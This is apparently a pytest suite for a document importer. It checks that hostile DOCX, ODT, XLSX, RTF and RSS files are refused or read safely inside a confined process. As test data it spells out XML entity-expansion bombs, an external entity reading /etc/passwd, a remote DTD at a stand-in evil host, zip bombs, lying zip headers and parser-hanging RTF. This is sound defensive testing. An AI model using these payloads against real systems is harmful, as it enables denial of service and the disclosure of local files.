"""Office documents and XML built to harm: each is refused or read in part, within the limits of the child."""

import random
import struct
import zipfile
from io import BytesIO

import pytest

from articles.importing import Confined, parts, read
from articles.records import UnreadableFile
from tests.importing.officefiles import changed, open_text, saved, word
from tests.importing.test_tables import workbook

RIVER = "Iran and Iraq agreed on Tuesday on how to share a river that had all but dried up, the minister said."
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
BILLION_LAUGHS = f'<!DOCTYPE d [<!ENTITY l0 "ha">{LAUGHS}]>', "&l11;"
QUADRATIC = f'<!DOCTYPE d [<!ENTITY q "{"q" * 5000}">]>', "&q;" * 100_000
EXTERNAL = '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"
REMOTE_DTD = '<!DOCTYPE d SYSTEM "http://evil.example/d.dtd">', "x"
ATTACKS = [BILLION_LAUGHS, QUADRATIC, EXTERNAL, REMOTE_DTD]
NAMES = ["billion laughs", "quadratic blow-up", "external entity", "remote DTD"]
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@pytest.fixture(scope="module")
def child():
    with Confined() as confined:
        yield confined


def refusal(child, name, data):
    with pytest.raises(UnreadableFile) as refused:
        list(child.call("articles.importing.reading.parts", name, data))
    return str(refused.value)


def ends(child, name, data):
    """What comes of it; a child that had to be stopped fails the test."""
    try:
        return list(child.call("articles.importing.reading.parts", name, data))
    except UnreadableFile as refused:
        return [refused.notice]


def feed(doctype, text):
    return f"<?xml version='1.0'?>{doctype}<rss><channel><item><title>x</title><description>{text}</description></item></channel></rss>".encode()


def document_xml(doctype, text):
    return f"<?xml version='1.0'?>{doctype}<w:document xmlns:w='{WORD}'><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def docx(doctype, text):
    return changed(saved(word(RIVER)), document=document_xml(doctype, text).encode())


def docx_by_another_name(doctype, text):
    """The main part is called as a picture is."""
    package = changed(saved(word(RIVER)), document=document_xml(doctype, text).encode())
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(package)) as old, zipfile.ZipFile(file, "w") as new:
        for part in old.infolist():
            content = old.read(part).replace(b"word/document.xml", b"word/picture.png")
            new.writestr(part.filename.replace("document.xml", "picture.png"), content)
        new.writestr("word/document.xml", "<x/>")
    return file.getvalue()


def docx_in_wide_characters(doctype, text):
    source = document_xml(doctype, text).replace("version='1.0'", "version='1.0' encoding='utf-16'")
    return changed(saved(word(RIVER)), document=source.encode("utf-16"))


def odt(doctype, text):
    data = open_text(f"<text:p>{text}</text:p>")
    with zipfile.ZipFile(BytesIO(data)) as package:
        content = doctype + package.read("content.xml").decode()
    return changed(data, content=content.encode())


def xlsx(doctype, text):
    sheet = f'{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{text}</t></is></c></row></sheetData></worksheet>'
    return changed(workbook([["text"], [RIVER]]), sheet1=sheet.encode())


@pytest.mark.parametrize("attack", ATTACKS, ids=NAMES)
@pytest.mark.parametrize(
    ("name", "made"),
    [
        ("a.rss", feed),
        ("a.xml", feed),
        ("a.docx", docx),
        ("a.docx", docx_by_another_name),
        ("a.docx", docx_in_wide_characters),
        ("a.odt", odt),
        ("a.xlsx", xlsx),
    ],
)
def test_entities_are_refused_before_they_grow(child, name, made, attack):
    assert "entities" in refusal(child, name, made(*attack))


def bomb(name, pieces=400, other=b""):
    """A package with one part of so many megabytes, packed to almost nothing."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as package:
        with zipfile.ZipFile(BytesIO(other)) as old:
            for part in old.infolist():
                if part.filename != name:
                    package.writestr(part.filename, old.read(part))
        with package.open(name, "w", force_zip64=True) as part:
            part.write(b"<x>")
            for _ in range(pieces):
                part.write(b" " * 1024 * 1024)
    return file.getvalue()


def lying(data, name, size):
    """The package whose list of parts claims another size for one of them."""
    at = data.rindex(name.encode()) - 46
    assert data[at : at + 4] == b"PK\x01\x02"
    return data[: at + 24] + struct.pack("<I", size) + data[at + 28 :]


@pytest.fixture(scope="module")
def huge():
    return bomb("word/document.xml", other=saved(word(RIVER)))


def test_a_document_that_unpacks_to_400_megabytes_is_refused_by_its_size(child, huge):
    assert len(huge) < 3_000_000
    assert "more than can be read" in refusal(child, "a.docx", huge)


def test_one_that_claims_to_be_small_too(child, huge):
    assert "damaged" in refusal(child, "a.docx", lying(huge, "word/document.xml", 1000))


@pytest.mark.parametrize(
    ("name", "part", "made"),
    [
        ("a.odt", "content.xml", lambda: open_text("")),
        ("a.xlsx", "xl/worksheets/sheet1.xml", lambda: workbook([[RIVER]])),
    ],
)
def test_other_packages_have_the_same_limit(child, name, part, made):
    assert "more than can be read" in refusal(child, name, bomb(part, 90, made()))


def test_a_remote_template_is_never_fetched(child):
    settings = b"""<?xml version='1.0'?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
    <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>"""
    data = changed(saved(word(RIVER)), **{"_rels/settings.xml.rels": settings})
    (found,) = child.call("articles.importing.reading.parts", "a.docx", data)
    assert found.text == RIVER


@pytest.mark.parametrize("name", ["a.docx", "a.odt", "a.xlsx"])
@pytest.mark.parametrize("content", [b"some text", b""])
def test_a_zip_by_the_name_of_a_document_is_refused(child, name, content):
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        if content:
            package.writestr("notes.txt", content)
    assert "this is a zip archive" in refusal(child, name, file.getvalue())


@pytest.mark.parametrize("name", ["a.docx", "a.odt", "a.xlsx", "a.rtf", "a.rss", "a.atom", "a.xml"])
def test_nothing_is_refused(name):
    with pytest.raises(UnreadableFile, match="empty"):
        read(name, b"")


def deep(name, tag, depth, **parts):
    source = f"<{tag}>" * depth + "x" + f"</{tag}>" * depth
    if name == "a.odt":
        return open_text(f"<text:p>{source}</text:p>")
    if name == "a.docx":
        return docx("", source)
    return feed("", source)


@pytest.mark.parametrize(
    ("name", "tag"), [("a.docx", "w:sdt"), ("a.odt", "text:span"), ("a.rss", "b"), ("a.rss", "div")]
)
def test_elements_inside_of_100_000_others_break_nothing(child, name, tag):
    assert ends(child, name, deep(name, tag, 100_000))


@pytest.mark.parametrize(
    "source",
    [
        b"{" * 500_000 + b"}" * 500_000,
        rb"{\field{\*\fldinst{HYPERLINK " * 30_000,
        rb"{\footnote " * 100_000 + RIVER.encode(),
        rb"{\header " * 100_000,
        rb"{\pict\bin" + b"9" * 10_000 + b" }",
        rb"\u" + b"9" * 1_000_000,
        rb"{\fonttbl{\f0\fcharset" + b"9" * 100_000 + rb" A;}}",
        rb"\'" * 500_000,
    ],
    ids=["braces", "links", "notes", "heads", "binary", "number", "fonts", "hexes"],
)
def test_rtf_built_to_take_for_ever_ends(child, source):
    assert ends(child, "a.rtf", rb"{\rtf1\ansi " + source + b"}")


@pytest.mark.parametrize(
    "cell",
    [
        '<row r="999999999"><c r="A999999999" t="inlineStr"><is><t>x</t></is></c></row>',
        '<row r="2"><c r="ZZZZ2" t="inlineStr"><is><t>x</t></is></c></row>',
        '<row r="2"><c r="XFD2" t="inlineStr"><is><t>x</t></is></c></row>',
        '<row r="2"><c r="A2" t="s"><v>999999</v></c></row>',
        '<row r="2"><c r="A2" t="n"><v>1e999</v></c></row>',
    ],
    ids=["far row", "no column", "far column", "no such string", "infinity"],
)
def test_cells_at_impossible_places(child, cell):
    sheet = f"""<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>
    <row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row>{cell}</sheetData></worksheet>"""
    ends(child, "a.xlsx", changed(workbook([[RIVER]]), sheet1=sheet.encode()))


def damaged(chance, data):
    """Some bytes of it overwritten, lost, doubled or turned round."""
    found = bytearray(data)
    for _ in range(chance.choice([1, 2, 5])):
        begin = chance.randrange(len(found))
        end = min(len(found), begin + chance.choice([1, 5, 50]))
        piece = found[begin:end]
        found[begin:end] = chance.choice(
            [bytes([chance.randrange(256)]), b"", piece * 3, piece[::-1], b"<", b"&", b"\xff"]
        )
    return bytes(found)


def damaged_within(chance, data):
    """A package one part of which is damaged."""
    with zipfile.ZipFile(BytesIO(data)) as package:
        part = chance.choice(package.namelist())
        content = damaged(chance, package.read(part))
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(file, "w") as new:
        for one in old.namelist():
            new.writestr(one, content if one == part else old.read(one))
    return file.getvalue()


@pytest.mark.filterwarnings("ignore::UserWarning")
@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.docx", saved(word(("Title", "River"), RIVER, blocks=["<w:tbl><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"]))),
        ("a.odt", open_text(f"<text:p>{RIVER}</text:p>", meta="<meta:creation-date>2025-12-03</meta:creation-date>")),
        ("a.xlsx", workbook([["title", "text", "date"], ["River", RIVER, 45_000]])),
        (
            "a.rtf",
            rb"{\rtf1\ansi{\fonttbl{\f0\fcharset204 A;}}{\info{\title x}}\f0 \'cf\u1087?" + RIVER.encode() + b"}",
        ),
        ("a.rss", feed("", RIVER)),
    ],
)
def test_a_damaged_document_is_read_or_refused(capfd, name, data):
    chance = random.Random(name)
    for _ in range(60):
        damage = damaged_within if data.startswith(b"PK") and chance.random() < 0.8 else damaged
        try:
            list(parts(name, damage(chance, data)))
        except UnreadableFile as refused:
            assert str(refused).startswith(name)
    assert capfd.readouterr().out == "", "nobody's text belongs on a console"
